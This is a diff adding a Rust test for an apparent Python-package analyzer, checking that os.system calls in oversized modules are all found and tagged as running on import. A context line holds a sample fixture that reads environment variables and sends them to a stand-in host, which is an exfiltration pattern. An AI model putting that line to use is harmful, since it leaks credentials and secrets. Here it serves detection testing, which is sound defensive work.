@@ -245,3 +245,26 @@ fn two_runs_agree() {
         "import os, requests\nfor k in ['a', 'b']:\n    requests.get('http://a.example/' + k + os.getenv(k))";
     assert_eq!(events_of(source), events_of(source));
 }
+
+#[test]
+fn an_artifact_too_big_to_hold_at_once_is_worked_off_in_batches_and_no_module_is_left_out() {
+    let padding = format!("table = [{}]\n", "'a', ".repeat(100_000));
+    let mut files: Vec<(String, String)> = Vec::new();
+    let mut start = String::new();
+    for n in 0..12 {
+        start.push_str(&format!("import pkg.m{n}\n"));
+        files.push((format!("pkg/m{n}.py"), format!("{padding}import os\nos.system('echo {n}')\n")));
+    }
+    files.push(("pkg/__init__.py".to_owned(), start));
+    let trigger = |path: &str| if path.ends_with("__init__.py") { Trigger::Import } else { Trigger::Run };
+    let files: Vec<(&str, &str, Trigger)> =
+        files.iter().map(|(p, t)| (p.as_str(), t.as_str(), trigger(p))).collect();
+    let analysis = analysis_of(&files);
+    let commands = analysis.events.iter().filter(|e| &*e.name == "os.system");
+    let mut seen: Vec<(Trigger, String)> =
+        commands.map(|e| (e.trigger, e.text(Role::Command).unwrap_or_default().to_owned())).collect();
+    seen.sort();
+    seen.dedup();
+    assert_eq!(seen.len(), 12, "{seen:?}");
+    assert!(seen.iter().all(|(trigger, _)| *trigger == Trigger::Import), "{seen:?}");
+}
